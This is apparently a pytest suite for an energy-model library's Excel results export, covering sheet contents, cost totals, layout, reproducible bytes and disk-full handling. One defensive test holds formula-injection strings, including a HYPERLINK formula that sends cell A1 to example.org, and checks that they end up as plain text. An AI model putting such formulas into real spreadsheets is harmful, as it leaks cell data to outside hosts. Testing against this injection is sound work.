"""The workbook of a run, read back with another library than the one that wrote it."""

from __future__ import annotations

import datetime as dt
import errno
import time
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from xlsxwriter.exceptions import FileCreateError

import anello
from anello.errors import ArtefactError
from anello.optimise.results import CollectedResults, extract, summarise, write_results
from anello.optimise.results.collection import write_tables
from anello.present.report.comparison import write_scenario_table
from anello.present.report.config import FiguresConfig
from anello.present.workbook import hourly, sheet
from anello.present.workbook.sheet import Column, Sheet, sheet_names, write_sheets
from anello.present.workbook.write import write_workbook
from report_fakes import fake_district
from results_fakes import FakeData, fake_inputs, fake_solution

SHEETS = ["readme", "settings", "inputs", "scenarios", "sizes", "energy", "costs", "temperatures"]
EVIL = '=HYPERLINK("http://example.org/?"&A1,"more")'


def with_substations(district: CollectedResults) -> CollectedResults:
    assert district.ring is not None
    ring = district.ring.copy()
    mean = ring["temperature_degc"].values
    ring["node_degc"] = (("state", "substation"), mean[:, None] + np.array([-2.0, 1.5]))
    ring = ring.assign_coords(substation=["Mill", "School"])
    stations = [{"name": "Mill", "plant": True}, {"name": "School"}]
    settings = {**district.settings, "ring": {"loop": {"substations": stations, "segments": []}}}
    return replace(district, ring=ring, settings=settings)


@pytest.fixture(scope="module")
def scenarios() -> dict[str, CollectedResults]:
    return {
        "baseline": fake_district(days=3, scenario="baseline", stores=False),
        "smart": with_substations(fake_district(days=3)),
    }


@pytest.fixture(scope="module")
def path(scenarios: dict[str, CollectedResults], tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_workbook(scenarios, tmp_path_factory.mktemp("book") / "results.xlsx")


@pytest.fixture(scope="module")
def frames(path: Path) -> dict[str, pd.DataFrame]:
    return pd.read_excel(path, sheet_name=None, engine="openpyxl", keep_default_na=False)


def numbers(column: pd.Series[Any]) -> np.ndarray[Any, Any]:
    return pd.to_numeric(column, errors="coerce").to_numpy()


def test_the_sheets_stand_in_their_order(frames: dict[str, pd.DataFrame]) -> None:
    assert list(frames) == [*SHEETS, "hourly baseline", "hourly smart"]
    told = frames["readme"].set_index(["Topic", "About"])["Text"]
    assert told["Time", "smart"] == "2015-01-01 00:00 to 2015-01-04 00:00: 72 steps, 72 hours"
    assert told["Version", "anello"] == "0.1.0"
    assert set(frames["readme"].query("Topic == 'Sheet'")["About"]) == {*SHEETS[1:], "hourly"}


def test_hours_are_those_of_the_tables(
    frames: dict[str, pd.DataFrame], scenarios: dict[str, CollectedResults], tmp_path: Path
) -> None:
    for name, collected in scenarios.items():
        write_tables(collected, tmp_path / name)
        found = frames[f"hourly {name}"]
        names = {str(t): str(n) for t, n in _names(collected)}
        carriers = {
            "electricity": "Electricity",
            "dhw": "Domestic hot water",
            "sh": "Space heating",
            "air_cond": "Cooling",
        }
        for variable, what in (("carrier_prod", "made"), ("carrier_con", "used")):
            table = pd.read_csv(tmp_path / name / f"{variable}.csv")
            flows = table.groupby(["loc", "tech", "carrier"])[f"{variable}_kwh"]
            assert len(flows) == sum(c.endswith(f" {what} [kWh]") for c in found.columns)
            for (loc, tech, carrier), values in flows:
                place = loc.capitalize()
                header = f"{place}: {names[tech]}, {carriers[carrier]} {what} [kWh]"
                assert numbers(found[header]) == pytest.approx(abs(values.to_numpy()), rel=1e-14)
        ring = pd.read_csv(tmp_path / name / "ring.csv")
        assert found["Start of step"].tolist() == pd.to_datetime(ring["timestep"]).tolist()
        cops = [c for c in ring.columns if c.startswith("cop ")]
        assert len(cops) == sum(c.endswith("COP [1]") for c in found.columns) > 0
        for column in cops:
            loc, tech = column.removeprefix("cop ").split("::")
            header = f"{loc.capitalize()}: {names[tech]}, COP [1]"
            assert numbers(found[header]) == pytest.approx(ring[column].to_numpy(), rel=1e-14)
        wells = numbers(found["Ring: Wells, heat into the ring [kW]"])
        assert wells == pytest.approx(ring["q_bal_kw wells"].to_numpy(), rel=1e-14)
        if name == "smart":
            stored = pd.read_csv(tmp_path / name / "storage.csv")
            mine = stored[(stored["loc"] == "buildings") & (stored["tech"] == "tes_dhw")]
            header = "Buildings: Hot-water store, in store at the end [kWh]"
            assert numbers(found[header]) == pytest.approx(mine["storage_kwh"].to_numpy())


def _names(collected: CollectedResults) -> Any:
    inputs = collected.inputs
    return zip(inputs["tech"].values, inputs["tech_name"].values, strict=True)


def test_scenarios_are_those_of_the_comparison(
    frames: dict[str, pd.DataFrame], scenarios: dict[str, CollectedResults], tmp_path: Path
) -> None:
    table = pd.read_csv(write_scenario_table(scenarios, tmp_path / "scenarios.csv"))
    found = frames["scenarios"]
    labels = [
        q if unit == "1" else f"{q} [{unit}]"
        for q, unit in zip(found["Quantity"], found["Unit"], strict=True)
    ]
    assert labels == table["quantity"].tolist()
    for name in scenarios:
        same = np.isclose(numbers(found[name]), table[name], rtol=1e-14, equal_nan=True)
        assert same.all()


def test_costs_add_up_to_the_totals(
    frames: dict[str, pd.DataFrame], scenarios: dict[str, CollectedResults]
) -> None:
    costs = frames["costs"]
    for name, collected in scenarios.items():
        summary = summarise(collected)
        cost = pd.Series(np.nan_to_num(numbers(costs[name])))
        total = summary["costs"]["monetary"]["total"]
        assert cost[costs["Location"] != ""].sum() == pytest.approx(total, rel=1e-9)
        assert cost.sum() == pytest.approx(summary["cost_simulated"], rel=1e-9)
        by_place = cost.groupby(costs["Location"]).sum()
        for loc, expected in summary["costs"]["monetary"]["by_location"].items():
            assert by_place[loc] == pytest.approx(expected, rel=1e-9)
    assert set(costs["Unit"]) == {"€"}


def test_sizes_and_energies_are_those_of_the_summary(
    frames: dict[str, pd.DataFrame], scenarios: dict[str, CollectedResults]
) -> None:
    summary = summarise(scenarios["smart"])
    sizes = frames["sizes"].set_index(["Location", "Technology", "Size of"])["smart"]
    for key, what in (("energy_kw", "Power"), ("storage_kwh", "Storage")):
        for node, value in summary["capacity"][key].items():
            assert sizes[(*node.split("::"), what)] == pytest.approx(value)
    energy = frames["energy"].set_index(["What", "Carrier", "Technology", "Location"])["smart"]
    for loc, carriers in summary["energy_mwh"]["production_by_location"].items():
        for carrier, techs in carriers.items():
            for tech, value in techs.items():
                assert energy["made", carrier, tech, loc] == pytest.approx(value)


def test_a_loop_shows_the_water_at_its_substations(frames: dict[str, pd.DataFrame]) -> None:
    found = frames["temperatures"]
    assert len(found) == 73
    mean = numbers(found["smart: ring, mean [°C]"])
    assert numbers(found["smart: substation Mill [°C]"]) == pytest.approx(mean - 2.0)
    assert numbers(found["smart: substation School [°C]"]) == pytest.approx(mean + 1.5)
    assert "baseline: ring, mean [°C]" in found


def test_free_cooling_has_a_column_where_there_is_any(tmp_path: Path) -> None:
    district = fake_district(days=1)
    assert district.ring is not None
    free = district.ring["q_kw"].where(district.ring["node"] == "commercial::hp_clim_cold", 0.0)
    ring = district.ring.assign(free_kw=free + 1.0 * (free["node"] == "commercial::hp_clim_cold"))
    path = write_workbook({"x": replace(district, ring=ring)}, tmp_path / "a.xlsx")
    found = pd.read_excel(path, sheet_name="hourly x")
    header = "Commercial: Chiller, free cooling [kW]"
    expected = ring["free_kw"].sel(node="commercial::hp_clim_cold").values
    assert found[header].to_numpy() == pytest.approx(expected)
    assert sum("free cooling" in name for name in found.columns) == 1


def test_settings_and_inputs_are_told(
    frames: dict[str, pd.DataFrame], scenarios: dict[str, CollectedResults], tmp_path: Path
) -> None:
    told = frames["settings"].set_index("Setting")["smart"]
    assert told["coupling.method"] == "fixed_point"
    assert told["model: model.name"] == "Made-up district"
    assert told["SHA-256, demand_co.csv"] == "0" * 64
    inputs = scenarios["smart"].inputs.assign(
        lifetime=("node", np.full(scenarios["smart"].inputs.sizes["node"], 20.0), {"units": "a"}),
        outdoor_degc=("timestep", np.linspace(0.0, 10.0, 72), {"units": "degC"}),
    )
    changed = replace(scenarios["smart"], inputs=inputs)
    book = write_workbook({"smart": changed}, tmp_path / "a.xlsx")
    frame = pd.read_excel(book, sheet_name="inputs", keep_default_na=False)
    found = frame.set_index(["Parameter", "Location", "Technology", "Value"])
    row = found.loc[("lifetime", "buildings", "hp_dhw", "value")]
    assert (row["Unit"], row["smart"]) == ("a", 20)
    series = frame[frame["Parameter"] == "outdoor_degc"].set_index("Value")["smart"]
    assert series["mean of the series"] == pytest.approx(5.0)
    assert series["largest of the series"] == 10


def test_cells_are_laid_out_for_work(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    for page in book:
        assert not page.merged_cells.ranges
        assert page.freeze_panes is not None
        assert page.freeze_panes.endswith("2")
        if page.max_row > 1:
            assert page.auto_filter.ref == page.dimensions
        assert all(cell.font.bold for cell in page[1])
        assert all(page.column_dimensions[c].width > 7 for c in ("A", "B"))
    hours = book["hourly smart"]
    assert hours.freeze_panes == "B2"
    first = hours["A2"]
    assert first.is_date
    assert first.value == dt.datetime(2015, 1, 1)
    assert first.number_format == "yyyy-mm-dd hh:mm"
    headers = [str(cell.value) for cell in hours[1]]
    assert all("[" in text for text in headers[1:])
    grid = headers.index("Buildings: Electricity grid, Electricity made [kWh]")
    assert hours.cell(2, grid + 1).number_format == "#,##0.0"


def evil(district: CollectedResults) -> CollectedResults:
    """Formulas in the name of a technology, of a location, and in a setting."""
    inputs = district.inputs.copy(deep=True)
    names = inputs["tech_name"].values.astype(object)
    names[list(inputs["tech"].values).index("hp_dhw")] = EVIL
    inputs["tech_name"] = ("tech", names.astype(str))
    places = {"buildings": "+1+2", "commercial": "@SUM(A1)"}

    def renamed(data: Any) -> Any:
        locs = [places[str(v)] for v in data["loc"].values]
        nodes = [places[str(v)] for v in data["node_loc"].values]
        return data.assign_coords(loc=locs, node_loc=("node", nodes))

    return replace(
        district,
        inputs=renamed(inputs),
        results=renamed(district.results),
        settings={"description": "=1+1", "coupling": {"method": "-2+3"}, "tab": "\t=1"},
    )


def test_no_name_becomes_a_formula(tmp_path: Path) -> None:
    found = {"=1+1": evil(fake_district(days=1))}
    config = FiguresConfig(currency="=A1", names={"tes_dhw": "=2+2"})
    path = write_workbook(found, tmp_path / "results.xlsx", config)
    with zipfile.ZipFile(path) as archive:
        pages = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        for name in pages:
            text = archive.read(name).decode("utf-8")
            assert "<f>" not in text
            assert "<hyperlink" not in text
    book = openpyxl.load_workbook(path)
    texts = {cell.value for page in book for row in page for cell in row if cell.data_type == "s"}
    assert not any(cell.data_type == "f" for page in book for row in page for cell in row)
    assert {EVIL, "+1+2", "@SUM(A1)", "=1+1", "-2+3", "\t=1", "=2+2"} <= texts
    told = next(row for row in book["settings"].iter_rows() if row[0].value == "coupling.method")
    assert told[1].number_format == "@"  # stays text when somebody edits the cell


def test_equal_results_give_equal_bytes(
    scenarios: dict[str, CollectedResults], path: Path, tmp_path: Path
) -> None:
    for name, collected in scenarios.items():
        write_results(collected, tmp_path / f"{name}.nc")
    time.sleep(2.1)  # a stored time of writing would differ, even to two seconds
    again = write_workbook({n: tmp_path / f"{n}.nc" for n in scenarios}, tmp_path / "again.xlsx")
    assert again.read_bytes() == path.read_bytes()
    made = openpyxl.load_workbook(path).properties
    assert made.created == made.modified == dt.datetime(2000, 1, 1)


def test_a_model_without_ring_has_a_workbook(tmp_path: Path) -> None:
    results = extract(FakeData(fake_inputs()), fake_solution())
    plain = CollectedResults(results=results, inputs=fake_inputs())
    path = write_workbook({"only": plain}, tmp_path / "results.xlsx")
    frames = pd.read_excel(path, sheet_name=None)
    assert list(frames) == [*SHEETS[:-1], "hourly only"]
    cop = frames["hourly only"]["A: Heat pump, COP [1]"]
    assert cop.tolist() == pytest.approx([4.0] * 6)
    units = frames["costs"].groupby("Cost class")["Unit"].first()
    assert units.to_dict() == {"monetary": "€", "co2": "unit of the model"}
    config = FiguresConfig(cost_units={"co2": "kg"})
    frame = pd.read_excel(write_workbook({"only": plain}, path, config), sheet_name="costs")
    assert set(frame.query("`Cost class` == 'co2'")["Unit"]) == {"kg"}


def test_a_model_alone_is_saved_as_a_workbook(tmp_path: Path) -> None:
    model = anello.examples.national_scale(
        override_dict={"model.subset_time": ["2030-07-01", "2030-07-01"]}
    )
    with pytest.raises(AttributeError, match="run"):
        model.to_excel(tmp_path / "a.xlsx")
    model.run()
    model.to_excel(tmp_path / "a.xlsx", currency="CHF")
    frames = pd.read_excel(tmp_path / "a.xlsx", sheet_name=None)
    assert list(frames)[-1] == "hourly base"
    costs = frames["costs"]
    total = float(model.dispatch["cost"].sel(cost_class="monetary").sum())
    assert costs.query("Unit == 'CHF'")["base"].sum() == pytest.approx(total, rel=1e-9)


def test_many_locations_are_added_up(
    scenarios: dict[str, CollectedResults], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(hourly, "MOST_CELLS", 100)
    path = write_workbook(scenarios, tmp_path / "results.xlsx")
    frames = pd.read_excel(path, sheet_name=None)
    found = frames["hourly smart"]["Electricity grid, Electricity made [kWh]"]
    grid = scenarios["smart"].results["carrier_prod"].sel(carrier="electricity")
    of_grid = grid.where(grid["node_tech"] == "grid").sum("node")
    assert found.to_numpy() == pytest.approx(of_grid.values)
    assert "sums over all of them" in frames["readme"].to_string()


def test_names_of_sheets_are_such_as_excel_allows() -> None:
    long = "hourly a_very_long_name_of_a_scenario"
    given = sheet_names(["a/b", long, f"{long}_2", "A_B", "[x]", ""])
    assert given[0] == "a_b"
    assert given[3] == "A_B 2"
    assert len({name.lower() for name in given}) == 6
    assert max(map(len, given)) == 31
    assert given[4:] == ["_x_", "sheet"]


def test_missing_unlimited_and_old_values(tmp_path: Path) -> None:
    columns = [
        Column("when", np.array(["1899-12-31T05:00", "2020-01-01T00:30"], "datetime64[m]"), "time"),
        Column("size [kW]", [np.inf, np.nan], "number"),
        Column("any", [True, "x" * 40_000], "mixed"),
    ]
    write_sheets([Sheet("one", columns)], tmp_path / "a.xlsx", "t")
    page = openpyxl.load_workbook(tmp_path / "a.xlsx")["one"]
    assert [cell.value for cell in page[2]] == ["1899-12-31 05:00", "unlimited", True]
    assert page["B3"].value is None
    assert page["C3"].value.endswith("x …")


def test_more_than_excel_holds_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, scenarios: dict[str, CollectedResults]
) -> None:
    monkeypatch.setattr(sheet, "ROWS", 60)
    with pytest.raises(ArtefactError, match="Excel holds 60"):
        write_workbook(scenarios, tmp_path / "a.xlsx")
    with pytest.raises(ArtefactError, match="at least one scenario"):
        write_workbook({}, tmp_path / "a.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_a_full_disk_leaves_the_former_file(
    scenarios: dict[str, CollectedResults], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a.xlsx"
    path.write_text("former")

    def close(self: Any) -> None:
        raise FileCreateError(OSError(errno.ENOSPC, "No space left on device"))

    monkeypatch.setattr(xlsxwriter.Workbook, "close", close)
    with pytest.raises(OSError, match="No space left"):
        write_workbook(scenarios, path)
    assert [p.name for p in tmp_path.iterdir()] == ["a.xlsx"]
    assert path.read_text() == "former"
